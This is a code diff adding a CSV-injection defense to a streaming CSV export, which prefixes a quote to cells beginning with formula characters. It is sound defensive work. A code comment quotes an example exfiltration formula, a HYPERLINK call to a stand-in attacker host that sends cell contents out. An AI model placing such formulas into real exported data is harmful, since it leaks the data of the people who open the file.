@@ -43,12 +43,36 @@ class CSVErrorsAsJSON:
         return super().finalize_response(request, response, *args, **kwargs)  # type: ignore[misc]
 
 
+# A spreadsheet reads a cell that starts with one of these as a formula: a customer id or
+# a change note of ``=HYPERLINK("https://attacker.example/?"&A1)`` would run when an
+# examiner opens the file (CSV injection, OWASP). Such cells get a ``'`` in front, which
+# spreadsheets show as text; so does a cell that already starts with ``'``, so that
+# removing one leading ``'`` from every cell that has one gives back the exact value
+# (the audit trail's recipe does that before hashing). Numbers ("-1.5") stay as they are.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")
+
+
+def spreadsheet_safe(cell: Any) -> Any:
+    """``cell`` as it may go into a CSV file that people open in a spreadsheet."""
+    if not isinstance(cell, str) or not cell.startswith(FORMULA_STARTS):
+        return cell
+    if cell[0] in "+-":
+        try:
+            float(cell)
+        except ValueError:
+            pass
+        else:
+            return cell  # a number, which a spreadsheet reads as a number
+    return "'" + cell
+
+
 def csv_lines(rows: Iterable[list[Any]]) -> Iterator[str]:
-    """Each row as one CSV line, as it is produced (for a streaming response)."""
+    """Each row as one CSV line, as it is produced (for a streaming response); text cells
+    are made ``spreadsheet_safe``."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     for row in rows:
-        writer.writerow(row)
+        writer.writerow([spreadsheet_safe(cell) for cell in row])
         yield buffer.getvalue()
         buffer.seek(0)
         buffer.truncate()
